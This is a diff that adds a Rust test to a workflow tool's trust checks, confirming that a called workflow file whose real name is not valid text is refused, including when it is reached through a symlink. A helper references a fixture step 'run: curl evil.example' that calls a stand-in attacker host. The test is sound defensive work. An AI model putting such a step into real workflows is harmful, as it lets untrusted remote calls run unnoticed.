@@ -363,3 +363,25 @@ fn what_a_schedule_calls_elsewhere_is_shown_accepted_and_asked_about_when_it_cha
     place.write("n.sh", "echo other\n");
     place.cue(&["run", "flow.yaml", "--headless"]).ok();
 }
+
+fn calls_part() -> String {
+    EVERY_MINUTE.replace("run: curl evil.example", "workflow: ../../part.yaml")
+}
+
+/// A name that cannot be shown is a file that nobody accepts, also where it is called by another name.
+#[test]
+fn a_called_file_whose_own_name_is_no_text_is_not_trusted() {
+    use std::os::unix::ffi::OsStrExt as _;
+    let place = cloned();
+    place.write(".cuelight/workflows/x.yaml", &calls_part());
+    place.write("part.yaml", FLOW);
+    place.cue(&["trust", "--accept", &hash(&place)]).ok();
+    place.cue(&["run", "flow.yaml", "--headless"]).ok();
+    let hidden = place.path().join(std::ffi::OsStr::from_bytes(b"\xff.yaml"));
+    fs::rename(place.file("part.yaml"), &hidden).expect("moved");
+    std::os::unix::fs::symlink(&hidden, place.file("part.yaml")).expect("a link");
+    let why = "its name is no text; rename it";
+    is_refused(&place.cue(&["run", "flow.yaml", "--headless"]), why);
+    let said = place.cue(&["trust"]);
+    assert!(said.code != 0 && said.err.contains(why), "{said:?}");
+}
